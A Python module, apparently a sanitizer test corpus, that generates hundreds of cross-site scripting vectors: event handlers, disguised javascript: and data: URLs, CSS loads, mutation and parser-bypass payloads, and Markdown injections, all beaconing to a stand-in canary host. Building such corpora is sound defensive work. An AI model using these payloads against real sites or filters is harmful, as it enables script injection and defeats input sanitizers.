"""Markup that wants to run a script or reach another machine: every way we know, by kind.

Each vector would cry to `canary.example` or set `window.cried` in a browser that shows it as it is.
"""

from __future__ import annotations

import base64
from collections.abc import Iterator
from html import escape
from urllib.parse import quote

HOST = "canary.example"
URL = f"http://vector.{HOST}/a"
SCRIPT = f"window.cried=1;new Image().src='{URL}'"

# Attributes that load, send or lead elsewhere (HTML, its past and the browsers' own), with an element that has them.
LOADING = """
img src|img srcset|img lowsrc|img dynsrc|img longdesc|img usemap|img data-src|img data-original|img imagesrcset
picture><source srcset|source src|video src|video poster|audio src|track src|embed src|embed code|embed pluginspage
object data|object codebase|object classid|object archive|object usemap|applet code|applet codebase|applet archive
param value|iframe src|iframe longdesc|frame src|frameset><frame src|portal src|fencedframe src|webview src
script src|script href|link rel=stylesheet href|link rel=prefetch href|link rel=preload as=image href
link rel=preload as=image imagesrcset|link rel=dns-prefetch href|link rel=preconnect href|link rel=prerender href
link rel=modulepreload href|link rel=icon href|link rel="shortcut icon" href|link rel=apple-touch-icon href
link rel=manifest href|link rel=import href|link rel=pingback href|link rel=search href|link rel=alternate href
link rel=next href|link rel=canonical href|link rel=subresource href|link rel=monetization href|base href
form action|button formaction|input type=image src|input type=submit formaction|input type=image formaction
isindex action|body background|table background|td background|th background|tr background|thead background
tbody background|col background|a href|a ping href=#|area href|area ping href=#|a attributionsrc|img attributionsrc
blockquote cite|q cite|ins cite|del cite|head profile|html manifest|bgsound src|layer src|ilayer src|xml src
command icon|menuitem icon|keygen challenge|svg><image href|svg><image xlink:href|svg><use href|svg><use xlink:href
svg><a href|svg><a xlink:href|svg><script href|svg><script xlink:href|svg><feImage href|svg><feImage xlink:href
svg><pattern href|svg><linearGradient href|svg><textPath href|svg><mpath href|svg><cursor xlink:href|svg><animate href
svg><set href|svg><tref xlink:href|svg><discard href|svg><foreignObject><img src|math href|math><mtext href
math><mi xlink:href|math><maction actiontype=statusline xlink:href|math><annotation-xml encoding=text/html><img src
meta http-equiv=refresh content|meta http-equiv=Link content|meta property=og:image content|p xml:base|div xlink:href
input src|input list|select><option data-src|textarea data-src|noscript><img src|noembed><img src|noframes><img src
template><img src|details open><img src|dialog open><img src|marquee><img src|xmp><img src|plaintext><img src
slot><img src|canvas><img src|title><img src|textarea><img src|listing><img src|font><img src|center><img src
""".replace("\n", "|").strip("|")

# What a style can ask for, one a line.
STYLES = """
background:url({})
background-image:url("{}")
background-image:image-set("{}" 1x)
background-image:-webkit-image-set(url({}) 1x)
background-image:cross-fade(url({}),url({}),50%)
list-style:url({})
list-style-image:url({})
border-image:url({}) 30 round
border-image-source:url({})
content:url({})
cursor:url({}),auto
mask:url({})
mask-image:url({})
-webkit-mask-image:url({})
filter:url({}#a)
clip-path:url({}#a)
shape-outside:url({})
offset-path:url({})
behavior:url({})
-moz-binding:url({}#a)
width:expression(new Image().src="{}")
background:u\\72l({})
background:\\75rl({})
src:url({})
fill:url({})
marker:url({})
@import "{}"
background:url( "{}" )
background:URL({})
background:url(//{})
-o-link:"{}";-o-link-source:current
""".strip()

EVENTS = """
onload onerror onclick onfocus onblur onmouseover onmouseenter onmouseout onmousemove onmousedown onmouseup onwheel
onscroll onscrollend onresize ontoggle onbeforetoggle onpageshow onpagehide onpopstate onhashchange onmessage
onstorage onunload onbeforeunload onanimationstart onanimationend onanimationiteration ontransitionend
ontransitionstart ontransitionrun onpointerover onpointerenter onpointerdown onpointerrawupdate ongotpointercapture
ontouchstart ontouchend onkeydown onkeyup onkeypress oninput onchange onsubmit onreset oninvalid onselect
onselectstart onselectionchange onformdata oncopy oncut onpaste onbeforecopy onbeforecut onbeforepaste onbeforeinput
ondrag ondragstart ondragend ondragenter ondragover ondrop oncanplay oncanplaythrough ondurationchange onended
onloadeddata onloadedmetadata onloadstart onpause onplay onplaying onprogress onratechange onseeked onseeking
onstalled onsuspend ontimeupdate onvolumechange onwaiting onauxclick oncontextmenu ondblclick onfullscreenchange
onbegin onend onrepeat onstart onfinish onbounce onafterprint onbeforeprint onafterscriptexecute onbeforescriptexecute
onsecuritypolicyviolation onslotchange oncuechange oncontentvisibilityautostatechange onsearch onshow
onreadystatechange onpropertychange onfilterchange onlayoutcomplete onbeforeactivate ondatasetcomplete onlosecapture
"""
_CARRIERS = ("img src=x", "svg", "body", "p tabindex=0", "input autofocus", "details open", "video src=x", "marquee")

_DATA = "data:text/html;base64," + base64.b64encode(f"<script>{SCRIPT}</script>".encode()).decode()
# Addresses that run or load, in the disguises that browsers have seen through.
ADDRESSES = (
    f"javascript:{SCRIPT}",
    f"JaVaScRiPt:{SCRIPT}",
    f" \x01javascript:{SCRIPT}",
    f"java\tscript:{SCRIPT}",
    f"java\nscript:{SCRIPT}",
    f"java&#10;script:{SCRIPT}",
    f"java&Tab;script:{SCRIPT}",
    f"&#106;avascript:{SCRIPT}",
    f"&#x6A;avascript&colon;{SCRIPT}",
    f"&#0000106avascript:{SCRIPT}",
    f"javascript&#58;{SCRIPT}",
    f"javascript&#x3A;{SCRIPT}",
    f"javascript://%0a{SCRIPT}",
    f"javascript:/*--></title></style></textarea></script><svg/onload='{SCRIPT}'>*/",
    f"vbscript:{SCRIPT}",
    f"livescript:{SCRIPT}",
    f"feed:javascript:{SCRIPT}",
    f"view-source:javascript:{SCRIPT}",
    f"jar:{URL}!/a",
    f"blob:{URL}",
    f"filesystem:{URL}",
    _DATA,
    f"DATA:text/html,{quote(f'<script>{SCRIPT}</script>')}",
    "data:image/svg+xml," + quote(f'<svg xmlns="http://www.w3.org/2000/svg" onload="{SCRIPT}"/>'),
    "data:application/xhtml+xml," + quote(f'<x:script xmlns:x="http://www.w3.org/1999/xhtml">{SCRIPT}</x:script>'),
    URL,
    f"//vector.{HOST}/a",
    f"\\\\vector.{HOST}\\a",
    f"/\\vector.{HOST}/a",
    f"http:vector.{HOST}/a",
    f"https:/vector.{HOST}/a",
    f"ftp://vector.{HOST}/a",
    f"ws://vector.{HOST}/a",
    f"file://vector.{HOST}/a",
    f"mhtml:{URL}",
    f"ms-its:{URL}",
)

# What parsers understand differently, and what was once shown to pass some wall.
MUTATIONS = (
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;{img}&gt;">',
    "<form><math><mtext></form><form><mglyph><style></math><{img}>",
    '<svg></p><style><a id="</style><{img}>">',
    '<noscript><p title="</noscript><{img}>">',
    "<svg><style>&lt;{img}&gt;</style></svg>",
    '<math><annotation-xml encoding="text/html"><style><{img}></style></annotation-xml></math>',
    "<svg><desc><{img}></desc></svg>",
    "<svg><title><style><{img}></style></title></svg>",
    '<svg><foreignObject><iframe srcdoc="<{img}>"></foreignObject></svg>',
    '<math><mi><table><mglyph><svg><mtext><textarea><path id="</textarea><{img}>">',
    '<math><mtext><table><mglyph><style><math><table id="</table><{img}>">',
    "<svg><![CDATA[><{img}>]]></svg>",
    "<![CDATA[<{img}>]]>",
    "<!--><{img}>-->",
    "<!---><{img}>-->",
    "<!--!><{img}>--!>",
    "<!-- --!><{img}>",
    "<!--[if gte IE 4]><script>{script}</script><![endif]-->",
    "<![if IE]><script>{script}</script><![endif]>",
    '<?xml-stylesheet href="{url}"?>',
    '<?import namespace="t" implementation="{url}"?>',
    '<!DOCTYPE x [<!ENTITY e SYSTEM "{url}">]><p>&e;</p>',
    "<xml id=x><i><b>&lt;{img}&gt;</b></i></xml><span datasrc=#x datafld=b dataformatas=html></span>",
    "<textarea><{img}></textarea><{img}>",
    "<title><{img}></title>",
    "<title></title><{img}>",
    "<style><{img}></style>",
    "<style>@import '{url}';</style>",
    "<style>p{{background:url({url})}}</style>",
    "<style>@font-face{{font-family:x;src:url({url})}}p{{font-family:x}}</style>",
    "<xmp><{img}></xmp>",
    "<listing>&lt;{img}&gt;</listing>",
    "<plaintext><{img}>",
    "<noembed><{img}></noembed>",
    "<noframes><{img}></noframes>",
    "<iframe><{img}></iframe>",
    '<iframe srcdoc="<script>{script}</script>"></iframe>',
    "<iframe srcdoc='&lt;{img}&gt;'></iframe>",
    '<object type=text/html data="{url}"></object>',
    "<template><{img}></template>",
    "<div><template shadowrootmode=open><{img}></template></div>",
    "<select><option><{img}></select>",
    "<select><style></select><{img}></style>",
    "<table><{img}><tr><td>a</table>",
    '<table><td background="{url}">a</table>',
    "<p/{img}>a",
    "<img\x0bsrc=x\x0bonerror={script}>",
    '<img\x00src=x onerror="{script}">',
    '<im\x00g src=x onerror="{script}">',
    "<img/src='x'/onerror=\"{script}\">",
    '<img src=x onerror\n=\n"{script}">',
    "<img src=`x` onerror=`{script}`>",
    '<img """><script>{script}</script>">',
    '<img src=x:x onerror="{script}" //',
    "<{img}",
    "<<{img}>",
    '<a"<{img}>',
    "<a b='<{img}>'>x</a b=\"'><{img}>\">",
    '</br style="background:url({url})"><br/style=a><{img}>',
    "</p onclick=1><{img}>",
    '<x onclick=1 style="position:fixed"><{img}></x>',
    "<script>{script}</script>",
    "<SCRIPT>{script}</SCRIPT>",
    "<scr<script>ipt>{script}</scr</script>ipt>",
    "<script/x>{script}</script>",
    "<script>{script}//",
    "<script>{script}</script foo>",
    "<script\n>{script}</script\n>",
    "<script><!--\n{script}\n--></script>",
    "<script><!--<script>{script}</script>",
    "<svg><script>{script}</script></svg>",
    "<svg><script>&#119;{script}</script></svg>",
    '<svg><script xlink:href="data:,{script}"></script></svg>',
    '<svg><animate onbegin="{script}" attributeName=x dur=1s></svg>',
    '<svg><a><animate attributeName=href values="javascript:{script}"/><text>x</text></a></svg>',
    '<svg><set attributeName=onmouseover to="{script}"/></svg>',
    '<svg><use href="data:image/svg+xml,<svg id=x onload={script}></svg>#x"></svg>',
    '<math><maction actiontype="statusline#{url}" xlink:href="javascript:{script}">x</maction></math>',
    '<a href="#" onclick="{script}" autofocus tabindex=1 onfocus="{script}">x</a>',
    '<input onfocus="{script}" autofocus>',
    '<button form=f formaction="javascript:{script}">x</button><form id=f></form>',
    '<form id=f action="{url}"><input name=a></form><script>f.submit()</script>',
    "<form><input name=attributes><input name=innerHTML><{img}></form>",
    "<img name=getElementById><img name=body><{img}>",
    '<base href="{url}"><img src=relative.png>',
    '<base href="javascript:/a/-{script}///////"><a href="../x">x</a>',
    '<meta http-equiv=refresh content="0;url=javascript:{script}">',
    '<meta http-equiv=refresh content="0;url={url}">',
    '<meta http-equiv=set-cookie content="a=b">',
    "<meta charset=utf-7>+ADw-script+AD4-{script}+ADw-/script+AD4-",
    '<meta http-equiv=Content-Security-Policy content="report-uri {url}">',
    '<embed src="data:text/html;base64,PHNjcmlwdD4=">',
    "<link rel=stylesheet href=\"data:text/css,@import'{url}'\">",
    "<a href='javascript:{script}'><img src=x></a>",
    "<ruby><rt><{img}></rt></ruby>",
    "<figure><figcaption><{img}></figcaption></figure>",
    '<ul><li style="list-style:url({url})"><{img}></ul>',
    '<details ontoggle="{script}" open>x</details>',
    '<p id="a" style="display:none;background:url({url})">x</p>',
    "<span lang='\"><{img}>'>x</span>",
    "<p dir='rtl\" onclick=\"{script}'>x</p>",
    "<ol start='1\" onclick=\"{script}'><li>x</ol>",
    "<td colspan='1\" onclick=\"{script}'>x</td>",
    "<img alt='\"><{img}>' src=x.png>",
    "<img src='x.png\" onerror=\"{script}'>",
    "&lt;{img}&gt;",
    "&amp;lt;{img}&amp;gt;",
    "\\u003c{img}\\u003e",
    "%3C{img}%3E",
    "{{{{constructor.constructor('{script}')()}}}}",
    "{{% raw %}}<{img}>{{% endraw %}}",
    '<frameset onload="{script}"><frame src="{url}"></frameset>',
    '<html onclick=1 manifest="{url}"><body onload="{script}" background="{url}">x</body></html>',
)

# What only Markdown makes of signs.
MARKDOWN = (
    "[a]({address})",
    "[a](<{address}>)",
    "[a]({address} 'title')",
    "![a]({address})",
    '![a](<{address}> "title")',
    "[![a]({address})]({address})",
    "[a][b]\n\n[b]: {address}",
    "![a][b]\n\n[b]: <{address}>",
    "<{address}>",
    '[a](x.png "\\" onerror=\\"{script}")',
    '![a" onerror="{script}](x.png)',
    '![a](x.png" onerror="{script})',
    "^[<{img}>]",
    "[^1]\n\n[^1]: <{img}>",
    "`<{img}>`",
    "```{img}\n<{img}>\n```",
    "| <{img}> |\n|---|\n| [a]({address}) |",
    '<table><tr><td><{img}><td background="{url}">x</table>',
    '<span lang="en" onclick="{script}">x</span>',
    '<span dir="ltr"><{img}></span>',
    '<a href="{address}">x</a>',
    '<em onclick="{script}">x</em>',
    "<ruby>a<rt><{img}></rt></ruby>",
)


def vectors() -> tuple[str, ...]:
    """All vectors of HTML, each once."""
    return tuple(dict.fromkeys((*_loading(), *_styled(), *_events(), *_addressed(), *map(_filled, MUTATIONS))))


def markdown_vectors() -> tuple[str, ...]:
    """Those that Markdown adds."""
    made = (_filled(text, address) for text in MARKDOWN for address in (ADDRESSES if "{address}" in text else ("",)))
    return tuple(dict.fromkeys(made))


def _loading() -> Iterator[str]:
    for entry in filter(None, LOADING.split("|")):
        element, _, attribute = entry.rpartition(" ")
        yield f'<{element} {attribute}="{URL}">x'
        yield f"<{element.upper()} {attribute.upper()}=//vector.{HOST}/b>x"


def _styled() -> Iterator[str]:
    for style in STYLES.split("\n"):
        said = style.replace("{}", URL)
        yield f"<p style='{said}'>x</p>"
        yield f"<style>p{{{said}}}</style><p>x</p>"


def _events() -> Iterator[str]:
    for number, event in enumerate(EVENTS.split()):
        yield f'<{_CARRIERS[number % len(_CARRIERS)]} {event}="{SCRIPT}">x'


def _addressed() -> Iterator[str]:
    for address in ADDRESSES:
        quoted = address if "&" in address else escape(address)
        yield from (f'<a href="{quoted}">x</a>', f'<img src="{quoted}">', f'<iframe src="{quoted}"></iframe>')


def _filled(text: str, address: str = "") -> str:
    return text.format(img=f'img src=x onerror="{SCRIPT}"', script=SCRIPT, url=URL, address=address)
